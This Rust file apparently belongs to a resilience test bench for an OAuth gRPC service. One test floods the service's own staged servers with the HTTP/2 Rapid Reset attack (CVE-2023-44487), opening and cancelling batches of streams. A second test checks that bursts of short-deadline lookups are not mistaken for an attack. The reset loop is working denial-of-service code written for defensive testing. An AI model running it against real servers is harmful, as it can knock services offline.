//! HTTP/2 streams that are reset: by an attacker, and by an impatient caller.

use std::time::Duration;

use bytes::Bytes;
use h2::{Reason, client};
use http::Request;
use oauth_clients::pb::v1::LookupClientRequest;
use tokio::{
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, timeout_at},
};
use uuid::Uuid;

use super::{Case, figures};
use crate::{
    stage::{Bench, OTHER, Stage},
    support::Outcome,
    traffic::{Attack, Caller, code, patiently},
    verdict::{Row, Rules},
};

/// The number of streams that are opened before they are reset.
const BATCH: usize = 50;
/// The time after which they are reset: they have been sent, and have no response yet.
const PAUSE: Duration = Duration::from_millis(1);
const DEADLINE: Duration = Duration::from_millis(50);

/// Opens streams on a connection and resets them at once (CVE-2023-44487), and on another whenever it is ended.
pub(crate) async fn rapid_reset(bench: &mut Bench, case: Case) -> Outcome<Row> {
    let setup = bench.setup(case.1).await?;
    let mut stage = bench.stage(setup).await?;
    let observed = stage
        .observe(async |stage| {
            let end = Instant::now() + stage.plan.fault;
            let mut resets = Vec::new();
            while Instant::now() < end {
                resets.push(reset_rapidly(stage, end).await?);
            }
            Ok(resets)
        })
        .await?;
    let resets = &observed.value;
    let most = resets.iter().map(|resets| resets.streams).max().unwrap_or(0);
    let ended = resets.iter().filter(|resets| resets.was_ended).count();
    let figures = format!("{ended} connections were ended; {most} streams at most on one");
    let mut broken = Vec::new();
    // A debug build reads so slowly that the resets seem to come late.
    if ended == 0 && !stage.plan.is_short {
        broken.push("not stopped".to_owned());
    }
    Ok(Row::of(
        case,
        &observed,
        Rules::UNHARMED,
        stage.plan,
        &figures,
        broken,
    ))
}

/// The streams of a connection.
struct Resets {
    streams: usize,
    /// The server ended the connection.
    was_ended: bool,
}

async fn reset_rapidly(stage: &Stage, end: Instant) -> Outcome<Resets> {
    let server = stage.servers.first().ok_or("no server")?;
    let stream = TcpStream::connect(server.grpc).await?;
    let (mut sender, connection) = client::handshake(stream).await?;
    let mut connections = JoinSet::new();
    connections.spawn(connection);
    let uri = format!(
        "http://{}/oauth_clients.v1.OAuthClientService/GetOAuthClient",
        server.grpc
    );
    let authorization = server.authorization(OTHER, "resetting")?;
    // A client that does not exist, so that the database is asked. Not compressed, 34 bytes, of which field 1 has 32.
    let id = Uuid::now_v7().simple().to_string();
    let message = Bytes::from([&[0, 0, 0, 0, 34, 10, 32], id.as_bytes()].concat());
    let mut resets = Resets {
        streams: 0,
        was_ended: false,
    };
    while Instant::now() < end {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            let request = Request::post(&uri)
                .header("content-type", "application/grpc")
                .header("authorization", &authorization)
                .body(())?;
            let Ok(Ok(ready)) = timeout_at(end, sender.clone().ready()).await else {
                break;
            };
            sender = ready;
            let Ok((response, mut body)) = sender.send_request(request, false) else {
                break;
            };
            // The server may have ended the connection.
            let _sent = body.send_data(message.clone(), true);
            batch.push((response, body));
        }
        sleep(PAUSE).await;
        for (_response, body) in &mut batch {
            body.send_reset(Reason::CANCEL);
        }
        resets.streams += batch.len();
        if connections.try_join_next().is_some() {
            resets.was_ended = true;
            break;
        }
    }
    Ok(resets)
}

/// Looks clients up with short deadlines, thousands at once on one connection. It must not be mistaken for an attack.
pub(crate) async fn short_deadlines(bench: &mut Bench, case: Case) -> Outcome<Row> {
    let setup = bench.setup(case.1).await?;
    let mut stage = bench.stage(setup).await?;
    let in_flight = stage.plan.size(600, 6_000);
    let observed = stage
        .observe(async |stage| {
            let attack = Attack::start(&stage.attackers(1)?, in_flight, |caller, number| async move {
                look_up(caller, number).await
            });
            sleep(stage.plan.fault).await;
            Ok(attack.stop().await)
        })
        .await?;
    let mut broken = Vec::new();
    if observed.value.failed.contains_key(code::NO_CONNECTION) {
        broken.push("the connection was ended".to_owned());
    }
    let figures = format!("{in_flight} in flight; {}", figures(&observed.value));
    let rules = Rules {
        may_be_slow: true,
        ..Rules::UNHARMED
    };
    Ok(Row::of(case, &observed, rules, stage.plan, &figures, broken))
}

/// Looks up a client that does not exist, so that the database is asked.
async fn look_up(caller: Caller, number: u64) -> Result<(), &'static str> {
    let client_id = Uuid::now_v7().simple().to_string();
    let mut request = caller.request(number, LookupClientRequest { client_id });
    request.set_timeout(DEADLINE);
    let mut authentication = caller.authentication.clone();
    match patiently(authentication.lookup_client(request)).await {
        Ok(_) | Err(code::NOT_FOUND) => Ok(()),
        Err(code) => Err(code),
    }
}
